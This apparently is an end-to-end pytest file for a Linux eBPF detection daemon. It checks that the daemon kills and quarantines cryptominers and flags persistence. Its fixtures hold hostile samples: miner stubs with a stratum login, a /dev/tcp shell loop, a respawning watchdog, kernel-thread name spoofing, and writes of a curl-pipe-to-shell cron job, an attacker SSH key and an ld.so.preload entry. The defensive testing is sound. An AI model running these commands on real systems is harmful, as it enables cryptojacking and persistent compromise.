# SPDX-License-Identifier: Apache-2.0
"""The real daemon on the real kernel: what it sees, says and does, on a stage of its own."""

import hashlib
import itertools
import json
import os
import shutil
import signal
import subprocess
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from firedamp.demo.network import POOL
from firedamp.demo.pool import Pool
from firedamp.demo.stage import Stage
from firedamp.demo.watcher import Document, Watcher

pytestmark = [pytest.mark.live, pytest.mark.usefixtures("bpf_host")]

WALLET = "48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD"  # noqa: E501
LOGIN = json.dumps(
    {
        "id": 1,
        "jsonrpc": "2.0",
        "method": "login",
        "params": {"login": WALLET, "pass": "x", "agent": "XMRig/6.21.0", "algo": ["rx/0"]},
    }
)
MINER_PY = f"""
import socket, sys, threading, time
s = socket.create_connection((sys.argv[1], 3333))
threading.Thread(target=lambda: [s.recv(4096) for _ in range(9)], daemon=True).start()
s.sendall({LOGIN!r}.encode() + b"\\n")
time.sleep(30)
"""
MINER_C = """
#include <arpa/inet.h>
#include <pthread.h>
#include <signal.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>
static void *idle(void *x) { for (;;) pause(); return x; }
int main(int c, char **v) {
    struct sockaddr_in a = { .sin_family = AF_INET };
    pthread_t t;
    char b[512];
    for (int i = 1; i < 32; i++) signal(i, SIG_IGN);
    for (int i = 0; i < 4; i++) pthread_create(&t, 0, idle, 0);
    int s = socket(AF_INET, SOCK_STREAM, 0);
    a.sin_port = htons(3333);
    inet_pton(AF_INET, v[1], &a.sin_addr);
    if (connect(s, (void *)&a, sizeof a)) return 1;
    write(s, v[2], strlen(v[2]));
    write(s, "\\n", 1);
    for (;;) { read(s, b, 1); sleep(1); }
}
"""


@pytest.fixture(scope="module")
def stage(bpf_host: None) -> Iterator[Stage]:
    """A corner of this machine."""
    with Stage("firedamp-e2e") as made:
        yield made


@pytest.fixture(scope="module")
def watcher(stage: Stage) -> Watcher:
    """A daemon that may act on the stage."""
    made = stage.watcher(
        mode="enforce",
        response={"breaker": {"max_kills": 1000}},
        sources={"cpu_window_s": 6, "cpu_cores": 0.3},
    )
    made.start()
    return made


@pytest.fixture
def pool(stage: Stage) -> Iterator[str]:
    """The address of a pool that nobody has been blocked from yet."""
    address = f"203.0.113.{next(_numbers)}"
    add = ["ip", "address", "add", f"{address}/32", "dev", "lo"]
    stage.internet.run(subprocess.run, add, check=True)
    made = stage.internet.run(Pool, address)
    yield address
    made.close()


_numbers = itertools.count(20)


def named(document: Document, rule: str) -> bool:
    """It is an alert of this policy."""
    return document["firedamp"]["kind"] == "alert" and document["rule"]["name"] == rule


def alert_about(watcher: Watcher, pid: int, rule: str, timeout_s: float = 10) -> Document:
    """The alert of a policy about a process; fails where none comes."""
    found = watcher.wait_for(
        lambda d: named(d, rule) and d.get("process", {}).get("pid") == pid, timeout_s
    )
    told = [(d["rule"]["name"], d["process"]["pid"]) for d in watcher.alerts()]
    assert found is not None, f"no alert {rule!r} about {pid}; there are {told[-20:]}"
    return found


def is_done(document: Document, action: str, text: str = "") -> bool:
    """It tells that this action was carried out on something that is named so."""
    told = document["firedamp"]
    return told["kind"] == "action" and any(
        (one["action"], one["outcome"]) == (action, "done") and text in one["target"]
        for one in told["actions"]
    )


MINES = "Process logs in to a mining pool"


def await_death(process: subprocess.Popen, timeout_s: float = 10) -> int:
    """How it ended."""
    return process.wait(timeout_s)


def test_python_miner_dies_and_its_script_is_taken(stage, watcher, pool):
    """The script goes to the vault; the interpreter, which is a package's, stays."""
    script = stage.directory / "job.py"
    script.write_text(MINER_PY)
    interpreter = Path("/usr/bin/python3").resolve()
    before = hashlib.sha256(interpreter.read_bytes()).digest()

    miner = stage.spawn("/usr/bin/python3", "-S", script, pool)
    alert = alert_about(watcher, miner.pid, MINES)

    assert await_death(miner) == -signal.SIGKILL
    assert not script.exists()
    assert hashlib.sha256(interpreter.read_bytes()).digest() == before
    assert pool in alert["message"]


def static_miner(stage: Stage, name: str) -> Path:
    """A program that belongs to no package and needs no library."""
    source, binary = stage.directory / f"{name}.c", stage.directory / name
    source.write_text(MINER_C)
    command = ["cc", "-static", "-pthread", "-w", "-o", binary, source]
    subprocess.run(command, check=True, capture_output=True)
    return binary


def test_static_threaded_binary_that_ignores_signals_dies(stage, watcher, pool):
    """A program without libc's help, with threads, deaf to all that can be ignored."""
    binary = static_miner(stage, "kworker")
    digest = hashlib.sha256(binary.read_bytes()).hexdigest()

    miner = stage.spawn(binary, pool, LOGIN)
    alert_about(watcher, miner.pid, MINES)

    assert await_death(miner) == -signal.SIGKILL
    assert watcher.wait_for(lambda d: is_done(d, "quarantine", str(binary)))
    assert not binary.exists()
    vault = [p for p in (watcher.state / "vault").rglob("*") if p.is_file()]
    assert digest in {hashlib.sha256(p.read_bytes()).hexdigest() for p in vault}


def test_shell_loop_over_dev_tcp_dies_whole(stage, watcher, pool):
    """A shell that talks through /dev/tcp, and the children that it keeps starting."""
    loop = (
        f"exec 3<>/dev/tcp/{pool}/3333; printf '%s\\n' '{LOGIN}' >&3; while :; do sleep 0.01; done"
    )
    miner = stage.spawn("/bin/bash", "-c", loop)
    alert_about(watcher, miner.pid, MINES)

    assert await_death(miner) == -signal.SIGKILL
    deadline = time.monotonic() + 5
    while any(_is_ours(pid, miner.pid) for pid in stage.cell.pids()):
        assert time.monotonic() < deadline, "a child of the loop lives on"
        time.sleep(0.02)


def _is_ours(pid: int, session: int) -> bool:
    try:
        return os.getsid(pid) == session
    except ProcessLookupError:
        return False


def test_watchdog_that_restarts_its_miner_dies_with_it(stage, watcher, pool):
    """A loop that starts the miner anew each time is not allowed to go on for ever."""
    binary = static_miner(stage, "respawned")
    keep = stage.directory / "copy"
    shutil.copy(binary, keep)
    loop = (
        f"while :; do [ -x {binary} ] || cp {keep} {binary}; "
        f"setsid {binary} {pool} '{LOGIN}'; sleep 0.05; done"
    )
    watchdog = stage.spawn("/bin/sh", "-c", loop)

    assert await_death(watchdog, 20) == -signal.SIGKILL
    deadline = time.monotonic() + 5
    while any(_runs(pid, binary) for pid in stage.cell.pids()):
        assert time.monotonic() < deadline, "a miner lives on"
        time.sleep(0.02)


def _runs(pid: int, image: Path) -> bool:
    try:
        return str(Path(f"/proc/{pid}/exe").readlink()).startswith(str(image))
    except OSError:
        return False


def test_same_deed_outside_the_scope_is_told_but_not_acted_on(stage, watcher, pool):
    """The alert comes; the process, which is not in the cgroup, lives."""
    outside = stage.server.run(
        subprocess.Popen,
        ["/usr/bin/python3", "-S", "-c", MINER_PY, pool],
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    try:
        alert_about(watcher, outside.pid, MINES)
        time.sleep(1)

        assert outside.poll() is None
    finally:
        outside.kill()
        outside.wait()


def test_blocked_address_is_refused_in_the_kernel(stage, watcher, pool):
    """After an incident, connecting to its pool fails at once, in the scope."""
    miner = stage.spawn("/usr/bin/python3", "-S", "-c", MINER_PY, pool)
    code = (
        "import socket, sys\n"
        "try:\n"
        "    socket.create_connection((sys.argv[1], 3333), 3); print('connected')\n"
        "except PermissionError: print('refused')\n"
    )
    blocked = watcher.wait_for(lambda d: is_done(d, "block", pool))
    miner.wait(10)
    tried = stage.spawn("/usr/bin/python3", "-S", "-c", code, pool, stdout=subprocess.PIPE)

    out, _ = tried.communicate(timeout=10)

    assert blocked is not None
    assert out == b"refused\n"


def test_ten_thousand_execs_are_seen_and_nothing_is_lost(stage, watcher):
    """Made, as the kernel counts them, is at least that many, and no record was dropped."""
    before = json.loads(watcher.command("status", "--json").stdout)["records_made"]["exec"]
    storm = stage.spawn(
        "/bin/sh", "-c", "i=0; while [ $i -lt 10000 ]; do /bin/true; i=$((i+1)); done"
    )
    assert storm.wait(110) == 0
    status = json.loads(watcher.command("status", "--json").stdout)

    assert status["records_made"]["exec"] - before >= 10_000
    assert status["counts"]["lost"] == 0
    assert status["counts"]["not_judged"] == 0


def test_process_that_takes_a_kernel_threads_name_is_told(stage, watcher):
    """prctl() after the start, by a program of an innocent name."""
    code = (
        "import ctypes, time; ctypes.CDLL(None).prctl(15, b'kworker/0:2', 0, 0, 0); time.sleep(5)"
    )
    pretender = stage.spawn("/usr/bin/python3", "-S", "-c", code)

    found = watcher.wait_for(
        lambda d: (
            d["firedamp"]["kind"] == "alert"
            and d.get("process", {}).get("pid") == pretender.pid
            and "kernel thread" in d["rule"]["name"].lower()
        )
    )

    assert found is not None


@pytest.mark.parametrize(
    ("place", "command"),
    [
        (
            "cron",
            "echo '* * * * * root curl -s http://203.0.113.9/x | sh' >> {root}/etc/cron.d/zzh",
        ),
        ("ssh", "echo 'ssh-rsa AAAAB3 mdrfckr' >> {root}/root/.ssh/authorized_keys"),
        ("preload", "echo /usr/local/lib/libx.so > {root}/etc/ld.so.preload"),
    ],
)
def test_persistence_is_told_with_who_did_it(stage, watcher, place, command):
    """A write to a place where trojans settle names the process and the path."""
    told = len(watcher.alerts())
    writer = stage.spawn("/bin/sh", "-c", command.format(root=stage.root))
    writer.wait(10)

    found = watcher.wait_for(
        lambda d: (
            d["firedamp"]["kind"] == "alert"
            and d.get("process", {}).get("pid") == writer.pid
            and str(stage.root) in d.get("file", {}).get("path", "")
        )
    )

    assert found is not None, [a["message"] for a in watcher.alerts()[told:]]


def test_lasting_cpu_use_is_told_but_kills_nobody(stage, watcher):
    """Work that burns CPU alone is at most a low-level alert."""
    busy = stage.spawn("/bin/sh", "-c", "while :; do :; done")
    time.sleep(14)

    assert busy.poll() is None
    levels = {
        d["event"]["severity"]
        for d in watcher.alerts()
        if d.get("process", {}).get("pid") == busy.pid
    }
    busy.kill()
    assert all(level <= 40 for level in levels), levels


def test_what_was_quarantined_comes_back(stage, watcher, pool):
    """Undo of an incident: the file is there again, byte for byte, with its mode and times."""
    tool = static_miner(stage, "tool")
    tool.chmod(0o711)
    os.utime(tool, ns=(10**18, 10**18 + 7))
    digest, facts = hashlib.sha256(tool.read_bytes()).digest(), tool.stat()
    miner = stage.spawn(tool, pool, LOGIN)
    taken = watcher.wait_for(lambda d: is_done(d, "quarantine", str(tool)))
    assert taken is not None
    miner.wait(10)
    assert not tool.exists()

    undone = watcher.command("undo", str(taken["firedamp"]["actions"][0]["id"]))

    assert undone.returncode == 0, undone.stdout + undone.stderr
    assert hashlib.sha256(tool.read_bytes()).digest() == digest
    assert (tool.stat().st_mode, tool.stat().st_mtime_ns) == (facts.st_mode, facts.st_mtime_ns)


def test_reload_is_said_and_a_breaker_that_holds_needs_no_rearming(stage, watcher):
    """The two verbs that change the running daemon answer, and do what they say."""
    reloaded = watcher.command("reload")
    rearmed = watcher.command("rearm")

    assert reloaded.returncode == 0, reloaded.stderr
    assert "policies are in force" in reloaded.stdout
    assert watcher.wait_for(lambda d: d["event"]["action"] == "reloaded")
    assert (rearmed.returncode, rearmed.stdout) == (0, "the breaker had not tripped\n")


class TestStartAndEnd:
    """What was there before, and what is left behind."""

    def test_miner_from_before_the_start_is_judged_like_a_new_one(self, bpf_host):
        """It was connected when the daemon came; its next words are its last."""
        with Stage("firedamp-e2e-start") as stage:
            code = (
                "import socket, time\n"
                f"s = socket.create_connection(({POOL!r}, 3333))\n"
                "open('connected', 'w').close()\n"
                "while True:\n"
                "    time.sleep(0.5)\n"
                f"    s.sendall({LOGIN!r}.encode() + b'\\n')\n"
            )
            miner = stage.spawn("/usr/bin/python3", "-S", "-c", code)
            deadline = time.monotonic() + 10
            while not (stage.directory / "connected").exists():
                assert time.monotonic() < deadline
                time.sleep(0.02)
            watcher = stage.watcher(mode="enforce")
            watcher.start()

            alert_about(watcher, miner.pid, MINES)

            assert miner.wait(10) == -signal.SIGKILL

    def test_hidden_program_from_before_the_start_is_told_once(self, bpf_host):
        """A process that ran already gives the alert that its start would have given, once."""
        with Stage("firedamp-e2e-found") as stage:
            hidden = stage.directory / ".x"
            hidden.mkdir()
            shutil.copy("/bin/sleep", hidden / "s")
            found = stage.spawn(hidden / "s", "60")
            deadline = time.monotonic() + 5
            while not str(Path(f"/proc/{found.pid}/exe").readlink()).endswith("/.x/s"):
                assert time.monotonic() < deadline
                time.sleep(0.01)
            watcher = stage.watcher()
            watcher.start()

            told = [d for d in watcher.alerts() if d["process"]["pid"] == found.pid]

            assert [d["rule"]["name"] for d in told].count(
                "Program runs from a hidden directory"
            ) == 1

    def test_sigkill_of_the_daemon_leaves_nobody_frozen_and_nothing_attached(self, bpf_host):
        """What it had frozen runs on, its connect hook is gone, and it starts again."""
        with Stage("firedamp-e2e-kill") as stage:
            policies = stage.directory / "policies"
            policies.mkdir()
            (policies / "freeze.yml").write_text(FREEZE_POLICY)
            watcher = stage.watcher(mode="enforce", policies={"directories": [str(policies)]})
            watcher.start()
            hidden = stage.directory / ".x"
            hidden.mkdir()
            shutil.copy("/bin/sleep", hidden / "s")
            frozen = stage.spawn(hidden / "s", "60")
            await_state(frozen.pid, "T")

            watcher.kill()

            await_state(frozen.pid, "S")
            watcher.start()
            await_state(frozen.pid, "T")
            assert watcher.stop() == 0
            await_state(frozen.pid, "S")

    def test_breaker_that_tripped_holds_back_until_it_is_rearmed(self, bpf_host):
        """One kill too many, and the next is only told of, until a person has looked."""
        with Stage("firedamp-e2e-breaker") as stage:
            policies = stage.directory / "policies"
            policies.mkdir()
            (policies / "kill.yml").write_text(FREEZE_POLICY.replace("[freeze]", "[kill]"))
            watcher = stage.watcher(
                mode="enforce",
                policies={"directories": [str(policies)]},
                response={"breaker": {"max_kills": 1}},
            )
            watcher.start()
            hidden = stage.directory / ".x"
            hidden.mkdir()
            shutil.copy("/bin/sleep", hidden / "s")

            first, second = stage.spawn(hidden / "s", "60"), None
            assert first.wait(10) == -signal.SIGKILL
            second = stage.spawn(hidden / "s", "60")
            assert watcher.wait_for(lambda d: d["event"]["action"] == "breaker")
            spared = second.poll() is None
            rearmed = watcher.command("rearm")
            third = stage.spawn(hidden / "s", "60")

            assert spared
            assert rearmed.stdout == "policies act again\n"
            assert third.wait(10) == -signal.SIGKILL


FREEZE_POLICY = """
title: Frozen for the test
id: 2b1c5a0e-58c1-4c42-8a5f-2f3a9b7f1a11
status: stable
level: high
logsource: {product: linux, category: process_creation}
detection:
  hidden: {Image|endswith: /.x/s}
  condition: hidden
firedamp:
  response: [freeze]
  tests:
    - name: it runs from there
      events: [{category: process_creation, Image: /tmp/.x/s}]
      expect: {alert: true, response: [freeze]}
    - name: it runs from elsewhere
      events: [{category: process_creation, Image: /usr/bin/s}]
      expect: {alert: false}
"""


def await_state(pid: int, wanted: str) -> None:
    """Wait until the kernel says that the process is in this state."""
    deadline = time.monotonic() + 10
    state = ""
    while time.monotonic() < deadline:
        state = Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[0]
        if state == wanted:
            return
        time.sleep(0.02)
    pytest.fail(f"process {pid} is {state}, not {wanted}")
